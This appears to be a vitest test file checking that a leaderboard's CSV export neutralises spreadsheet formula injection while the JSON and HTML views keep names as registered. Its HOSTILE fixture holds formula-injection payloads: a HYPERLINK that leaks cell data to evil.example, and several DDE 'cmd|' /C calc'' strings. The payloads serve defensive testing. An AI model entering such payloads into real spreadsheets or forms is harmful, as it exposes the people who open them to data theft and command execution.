import { execFileSync } from "node:child_process";
import * as XLSX from "@e965/xlsx";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { seedScored } from "../support/browser.ts";
import { uniqueName } from "../support/env.ts";
import { startStack, type Stack } from "../support/stack.ts";

// The leaderboard export as an organizer's spreadsheet reads it: names that start like formulas
// (=, +, -, @) stay text, dates are dates and booleans booleans, and the JSON and HTML views still
// show the names exactly as registered.

const HOSTILE = {
  team: `=HYPERLINK("https://evil.example/?"&A1,"click") ${uniqueName("t")}`,
  institution: "+cmd|' /C calc'!A0",
  model: "@SUM(1+1)*cmd|' /C calc'!A0",
  second: "-2+3+cmd|' /C calc'!A0",
  fullWidth: "＝1+1",
};

describe("the leaderboard as CSV", () => {
  let stack: Stack;
  let csv: Buffer;

  beforeAll(async () => {
    stack = await startStack();
    // Registered through the real API: the names pass the text rules (they are visible text).
    const res = await fetch(`${stack.url}/api/v1/teams`, {
      method: "POST",
      headers: { "content-type": "application/json" },
      body: JSON.stringify({
        name: HOSTILE.team,
        institution: HOSTILE.institution,
        email: `${uniqueName("csv")}@example.org`,
        password: "correct horse battery",
        acceptTerms: true,
      }),
    });
    expect(res.status).toBe(201);
    const teamId = ((await res.json()) as { team: { id: string } }).team.id;
    const at = new Date("2026-11-30T23:59:58.750Z");
    await seedScored(stack.db, {
      competitionId: stack.competition.id,
      teamId,
      model: HOSTILE.model,
      meanAuc: 0.9,
      tied: true,
      ensemble: true,
      createdAt: at,
      link: "https://example.org/paper",
    });
    const plain = await stack.createTeam(HOSTILE.fullWidth, "Plain College");
    await seedScored(stack.db, {
      competitionId: stack.competition.id,
      teamId: plain.id,
      model: HOSTILE.second,
      meanAuc: 0.8,
      tied: false,
      ci: null,
      createdAt: at,
    });
    csv = Buffer.from(await (await fetch(`${stack.url}/leaderboard.csv`)).arrayBuffer());
  });
  afterAll(() => stack?.close());

  it("is RFC 4180: CRLF line ends, one header row, a UTF-8 byte order mark", () => {
    expect(csv.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const text = csv.subarray(3).toString("utf8");
    expect(text.endsWith("\r\n")).toBe(true);
    expect(text.replaceAll("\r\n", "")).not.toMatch(/[\r\n]/);
    const lines = text.split("\r\n");
    expect(lines[0]).toMatch(/^rank,date,model,team,institution,link,ensemble,mean_auc,/);
    expect(lines[0]).toMatch(/,submitted_at,baseline,earlier_test_set$/);
    expect(lines.filter((l) => l !== "")).toHaveLength(3);
  });

  it("opened as a spreadsheet: no cell is a formula, names are text, dates and booleans are typed", () => {
    const book = XLSX.read(csv, { type: "buffer", cellDates: true });
    const sheet = book.Sheets[book.SheetNames[0]!]!;
    const cells = Object.entries(sheet).filter(([ref]) => !ref.startsWith("!")) as [
      string,
      XLSX.CellObject,
    ][];
    expect(cells.length).toBeGreaterThan(40);
    expect(cells.filter(([, c]) => c.f !== undefined).map(([ref]) => ref)).toEqual([]);

    const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { raw: true });
    const [first, second] = rows;
    // Every name that a spreadsheet would evaluate reaches it as text, with the quote that says so.
    expect(first).toMatchObject({
      rank: 1,
      team: `'${HOSTILE.team}`,
      institution: `'${HOSTILE.institution}`,
      model: `'${HOSTILE.model}`,
      ensemble: true,
      tied_with_leader: true,
    });
    expect(second).toMatchObject({
      rank: 2,
      team: `'${HOSTILE.fullWidth}`,
      model: `'${HOSTILE.second}`,
      ensemble: false,
      tied_with_leader: false,
    });
    expect(second).not.toHaveProperty("mean_auc_lo");
    for (const row of rows) {
      for (const key of ["team", "institution", "model", "link"]) {
        const value = row[key] ?? "";
        expect(typeof value).toBe("string");
        expect(value).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }
      expect(typeof row.mean_auc).toBe("number");
      expect(row.date).toBeInstanceOf(Date);
      expect((row.date as Date).toISOString()).toBe("2026-11-30T00:00:00.000Z");
      expect(row.submitted_at).toBeInstanceOf(Date);
      expect((row.submitted_at as Date).toISOString()).toBe("2026-11-30T23:59:58.000Z");
    }
  });

  it("Python's csv module (its excel dialect) reads the same cells", () => {
    const script = [
      "import csv, io, json, sys",
      "text = sys.stdin.buffer.read().decode('utf-8-sig')",
      "print(json.dumps(list(csv.DictReader(io.StringIO(text, newline='')))))",
    ].join("\n");
    const rows = JSON.parse(execFileSync("python3", ["-c", script], { input: csv }).toString()) as Record<
      string,
      string
    >[];
    expect(rows.map((r) => [r.team, r.ensemble, r.date, r.tied_with_leader])).toEqual([
      [`'${HOSTILE.team}`, "TRUE", "2026-11-30", "TRUE"],
      [`'${HOSTILE.fullWidth}`, "FALSE", "2026-11-30", "FALSE"],
    ]);
  });

  it("leaves the JSON and HTML views as they were: the names as registered", async () => {
    const json = (await (await fetch(`${stack.url}/api/v1/leaderboard`)).json()) as {
      entries: { team: string; model: string; institution: string | null; ensemble: boolean }[];
    };
    expect(json.entries.map((e) => [e.team, e.model, e.institution, e.ensemble])).toEqual([
      [HOSTILE.team, HOSTILE.model, HOSTILE.institution, true],
      [HOSTILE.fullWidth, HOSTILE.second, "Plain College", false],
    ]);
    const html = await (await fetch(`${stack.url}/`)).text();
    expect(html).toContain("@SUM(1+1)*cmd|&#39; /C calc&#39;!A0");
    expect(html).not.toContain("&#39;@SUM");
  });
});
